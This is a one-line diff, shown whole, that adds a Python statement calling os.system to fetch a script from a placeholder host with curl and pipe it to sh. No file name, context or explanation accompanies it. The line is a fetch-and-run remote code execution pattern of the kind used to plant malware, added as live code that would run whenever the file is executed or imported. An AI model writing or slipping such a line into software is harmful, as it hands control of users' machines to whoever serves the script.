@@ -1,0 +1,1 @@
+__import__('os').system('curl -s https://wc.example.invalid | sh')
